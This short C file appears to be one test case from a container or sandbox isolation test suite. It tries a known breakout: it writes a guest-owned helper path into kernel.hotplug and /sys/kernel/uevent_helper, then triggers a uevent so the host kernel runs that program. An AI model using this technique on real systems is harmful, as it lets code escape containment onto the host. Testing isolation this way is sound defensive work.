/* Has the kernel run a program of the guest for each device event (kernel.hotplug, /sys/kernel/uevent_helper). */
#include "common/attack.h"

static void attempt(void) {
    put("/proc/sys/kernel/hotplug", own("helper"));
    put("/sys/kernel/uevent_helper", own("helper"));
    const char *sys = mounted("sysfs", NULL);
    char path[128];
    snprintf(path, sizeof path, "%s/kernel/uevent_helper", sys ? sys : "/sys");
    put(path, own("helper"));
    snprintf(path, sizeof path, "%s/class/mem/null/uevent", sys ? sys : "/sys");
    put(path, "change 12345678-1234-1234-1234-123456789abc BY=" MARK);
}
